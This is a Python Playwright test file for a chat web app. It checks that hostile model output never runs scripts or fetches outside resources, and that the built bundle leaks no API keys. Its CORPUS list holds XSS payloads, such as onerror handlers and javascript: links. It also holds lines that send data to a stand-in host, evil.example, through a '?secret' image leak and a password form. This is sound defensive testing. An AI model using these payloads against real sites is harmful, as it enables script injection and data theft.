"""What a model may say without anything of it running, loading, or leading out; and what the bundle must not hold."""

from __future__ import annotations

import gzip
import re
from pathlib import Path

import pytest
from playwright.async_api import Request, expect
from tests.answers import chat_stream
from tests.house import CANARY
from tests.scripted import ScriptedUpstream
from tests.ui.chat import ask, with_key
from tests.ui.openai import openai, words_of
from tests.ui.stage import stage

from doorward.edge.pages import BUILT

CORPUS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'><a xlink:href='javascript:window.hit=1'><text y=9>x</text></a></svg>",
    "[a](javascript:window.hit=1) [b](JaVaScRiPt&#58;window.hit=1) [c](\x01javascript:window.hit=1)",
    "[d](data:text/html,<script>window.hit=1</script>) [e](vbscript:x) [f](//evil.example/f) <javascript:window.hit=1>",
    '![leak](https://evil.example/leak.png?secret) ![x](x"onerror="window.hit=1)',
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe><object data='javascript:window.hit=1'></object>",
    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=https://evil.example/y.css>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password><button>go</button></form>",
    "```html\n<script>window.hit = 1</script>\n```",
    '```"><script>window.hit=1</script>\ncode\n```',
    "$\\href{javascript:window.hit=1}{x}$ $\\htmlData{onclick=window.hit=1}{x}$ $\\includegraphics{https://evil.example/z.png}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | [x](javascript:window.hit=1) |",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#x3C;img src=x onerror=window.hit=1&#x3E;",
    "\u202egnp.exe\u2066 and \x00 and " + "[" * 400 + "](" * 200 + "*" * 500,
]


@pytest.mark.chromium
async def test_nothing_of_an_answer_runs_or_is_fetched(tmp_path: Path) -> None:
    async with ScriptedUpstream(openai(lambda _: chat_stream(words_of("\n\n".join(CORPUS))))) as up:
        async with stage(tmp_path, openai_base_url=up.base_url) as s:
            page = s.page
            asked: list[str] = []

            def note(request: Request) -> None:
                if not request.url.startswith((s.url, "data:", "blob:")):
                    asked.append(request.url)

            page.on("request", note)
            await with_key(s)
            await ask(s, "Be hostile <img src=x onerror='window.hit=1'>")
            answer = page.get_by_role("article").last
            await expect(page.get_by_test_id("cost")).to_be_visible()
            await page.wait_for_timeout(500)
            assert await page.evaluate("window.hit") is None
            assert asked == []
            tags: list[str] = await answer.evaluate("e => [...new Set([...e.querySelectorAll('*')].map(x => x.localName))]")
            assert not {"script", "iframe", "object", "embed", "style", "link", "base", "meta", "form", "img"} & set(tags), tags
            links: list[str] = await answer.evaluate("e => [...e.querySelectorAll('a')].map(a => a.href)")
            assert all(re.match(r"https?://", link) for link in links), links
            handlers = (
                "e => [...e.querySelectorAll('*')].flatMap(x => [...x.attributes]).filter(a => a.name.startsWith('on')).length"
            )
            assert await answer.evaluate(handlers) == 0
            await s.axe("chat-hostile")


def bundle() -> dict[str, str]:
    return {path.name: path.read_text(errors="replace") for path in (BUILT / "assets").glob("*.js")}


@pytest.mark.skipif(not (BUILT / "index.html").exists(), reason="the pages are not built; run make pages")
def test_the_bundle_has_no_sdk_no_key_and_nothing_from_elsewhere() -> None:
    for name, text in bundle().items():
        assert CANARY not in text
        assert not re.search(r"(?<![A-Za-z0-9_-])(sk|dw)-[A-Za-z0-9]{12,}", text), name
        assert "api.openai.com" not in text, name
        assert "dangerouslyAllowBrowser" not in text, "the OpenAI SDK"
        assert not re.search(r"""(?:src|href)=["']https?://""", text), name
    index = (BUILT / "index.html").read_text()
    assert not re.search(r"(?:src|href)=\"(?!/)", index)
    assert "<style" not in index
    assert not re.search(r"<script(?![^>]*\bsrc=)", index)


@pytest.mark.chromium
async def test_a_conversation_loads_within_250_kb(tmp_path: Path) -> None:
    """All of it: the page, the composer, and what draws an answer; code colours and formulas come when there are some."""
    async with stage(tmp_path, custody="anonymous", spend_cap_usd="5") as s:
        await s.page.goto(s.url)
        await s.page.get_by_role("button", name="Try the simulator").click()
        await ask(s, "Hello")
        await expect(s.page.get_by_test_id("cost")).to_be_visible()
        paths: set[str] = set()
        s.page.on("request", lambda request: paths.add(request.url.removeprefix(s.url)))
        await s.page.reload()
        await expect(s.page.get_by_test_id("cost")).to_be_visible()
        files = [BUILT / path.lstrip("/") for path in paths if path.startswith("/assets/")]
        sizes = {file.name: len(gzip.compress(file.read_bytes(), 9)) for file in files}
        assert len(sizes) > 5
        assert sum(sizes.values()) < 250_000, (sum(sizes.values()), sizes)
